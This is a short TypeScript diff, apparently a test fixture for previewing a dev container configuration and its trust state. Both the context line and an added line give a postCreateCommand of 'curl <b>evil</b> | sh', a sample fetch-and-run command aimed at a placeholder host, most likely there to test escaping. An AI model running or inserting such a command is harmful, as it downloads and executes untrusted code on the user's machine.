@@ -16,6 +16,15 @@ const preview: Preview = {
   commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
   problem: null,
   dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
+  configurationHash: 'a'.repeat(64),
+  trust: { isTrusted: true, reason: 'decision' },
+  wants: {
+    image: 'debian',
+    commands: [{ hook: 'postCreateCommand', text: 'curl <b>evil</b> | sh' }],
+    repositoryPermission: 'write',
+    secretNames: [],
+    dotfilesRepositoryUrl: 'https://github.com/ada/dotfiles',
+  },
 }
 const pullRequest = {
   number: 7,
